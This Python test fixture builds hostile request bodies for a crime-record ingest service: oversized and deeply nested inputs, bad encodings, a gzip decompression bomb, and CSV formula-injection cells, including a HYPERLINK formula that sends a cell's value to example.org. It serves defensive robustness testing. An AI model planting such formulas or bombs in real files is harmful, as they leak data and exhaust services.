"""Bodies that nobody should send, and what the door may answer: never 500, never what was sent."""

import gzip
import io
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from services.ingest.formats.columns import TEMPLATE
from services.ingest.formats.police_uk import COLUMNS

SECRET = "Bloggs"
"""Stands in what is rejected; no answer may hold it."""
GOOD = b'{"ref":"G-1","type":"burglary","on":"2025-11"}'
NDJSON, CSV, JSON = "application/x-ndjson", "text/csv", "application/json"
Body = Callable[[int], Iterator[bytes]]
Case = tuple[str, Body, tuple[int, ...]]


@dataclass(frozen=True)
class Hostile:
    """A body, by how many times a small one it is to be, and the statuses that are right for it."""

    name: str
    media_type: str
    body: Body
    statuses: tuple[int, ...]


def _once(body: bytes) -> Body:
    return lambda scale: iter([body])


def _often(piece: bytes, head: bytes = b"") -> Body:
    """`piece` as often as makes about 100 kB times the scale."""
    batch = piece * max(1, 100_000 // len(piece))
    return lambda scale: (part for n in range(scale + 1) if (part := batch if n else head))


def _line(fields: str) -> bytes:
    return b'{"ref":"P-1","type":"burglary","on":"2025-11",' + fields.encode() + b"}"


def _rows(scale: int) -> Iterator[bytes]:
    yield b"ref,on,type\n"
    for start in range(0, 10_000 * scale, 1000):
        yield b"".join(b"P-%d,2025-11,burglary\n" % n for n in range(start, start + 1000))


def _bomb(scale: int) -> Iterator[bytes]:
    yield gzip.compress(bytes(8_000_000 * scale), 9)


def _workbook() -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as book:
        book.writestr("xl/worksheets/sheet1.xml", SECRET)
    return file.getvalue()


_FORMULA = f'=HYPERLINK(""http://example.org?""&A1,""{SECRET}"")'
_OURS = ",".join(TEMPLATE).encode() + b"\n"
_STREET = ",".join(COLUMNS).encode() + b"\n"
_FORMULAS = b'ref,on,category\n"' + _FORMULA.encode() + b'",2025-11,=1+1\n@SUM(1),-1,+1\n'

LINES: list[Case] = [
    ("one line of 10 MB", _often(b"x" * 100_000), (422,)),
    ("a value of 10 MB", _often(b"x" * 100_000, b'{"ref":"'), (422,)),
    ("a million empty objects", _often(b"{}\n"), (422,)),
    ("nothing but line ends", _often(b"\n"), (202,)),
    ("NUL for a file", _often(b"\0" * 1000), (422,)),
    ("NUL in values", _once(_line(f'"note":"{SECRET}\\u0000"') + b"\n\0\n" + GOOD), (207,)),
    ("nested 1,000 deep", _once(_line(f'"category":{"[" * 1000}"{SECRET}"{"]" * 1000}') + b"\n" + GOOD), (207,)),
    ("nested 30,000 deep, no end", _once(b'{"ref":' * 8000 + b"\n" + b"[" * 30_000 + b"\n" + GOOD), (207,)),
    ("one key twice", _once(b'{"ref":"Bloggs","ref":"P-1","type":"burglary","on":"2025-11","on":"2025-10"}'), (202,)),
    ("NaN and infinities", _once(_line('"lon":NaN,"lat":1') + b"\n" + _line('"lon":-Infinity,"lat":1e999')), (422,)),
    ("the year 9999", _once(GOOD.replace(b"2025-11", b"9999-12-31T23:59:59-23:59") + b"\n" + GOOD), (207,)),
    ("a number of 60,000 digits", _once(_line('"version":' + "9" * 60_000) + b"\n" + _line('"hour":-0')), (422,)),
    ("a byte order mark in the middle", _once(GOOD + b"\n\xef\xbb\xbf" + GOOD), (207,)),
    ("half a character", _once(GOOD + b"\n" + _line('"category":"\\ud83d"') + b'\n{"ref":"\xf0\x9f"}'), (207,)),
    ("UTF-16", _once((GOOD.decode() + SECRET).encode("utf-16")), (422,)),
    ("four thousand unknown fields", _once(_line(",".join(f'"{SECRET}{n}":0' for n in range(4000)))), (422,)),
    ("a workbook", _once(_workbook()), (415,)),
    ("a bomb", _bomb, (413, 422)),
    ("gzip in gzip", _once(gzip.compress(gzip.compress(GOOD))), (422,)),
    ("half a gzip", _once(gzip.compress(GOOD)[:-5]), (422,)),
    ("no gzip after all", _once(b"\x1f\x8b" + GOOD), (422,)),
]  # fmt: skip
ROWS: list[Case] = [
    ("a million rows", _rows, (202,)),
    ("a million rows of commas", _often(b"," * (len(TEMPLATE) - 1) + b"\n", _OURS), (202,)),
    ("formulas in cells", _once(_FORMULAS), (422,)),
    ("formulas in a header", _once(f'"{_FORMULA}",on\n'.encode()), (422,)),
    ("a quote that never ends", _often(b'P-1,"' + b"x" * 1000 + b"\n", b"ref,on\n"), (422,)),
    ("a header without end", _often(b"ref,"), (422,)),
    ("Windows-1252", _once(b"ref,on,category\nP-1,2025-11,caf\xe9 " + SECRET.encode()), (422,)),
    ("a street file of ghosts", _once(_STREET + b",,,,nan,inf,,,,,,\n" * 9), (422,)),
    ("a street file with persons", _once(_STREET + b"Bloggs@example.org,2025-11" + b"," * 10), (422,)),
]  # fmt: skip
DOCUMENTS: list[Case] = [
    ("a list of empty lists", lambda scale: iter([b"[" + b"[]," * (20_000 * scale) + b"[]]"]), (413, 422)),
    ("a list 100,000 deep", _once(b"[" * 100_000), (422,)),
    ("a list of numbers", _once(b"[" + b"1," * 5000 + b"1]"), (422,)),
    ("two documents", _once(GOOD + GOOD), (422,)),
    ("a workbook for a list", _once(_workbook()), (415,)),
    ("a list in a bomb", _bomb, (413, 422)),
]
CORPUS = [
    Hostile(name, media_type, body, statuses)
    for media_type, cases in ((NDJSON, LINES), (CSV, ROWS), (JSON, DOCUMENTS))
    for name, body, statuses in cases
]
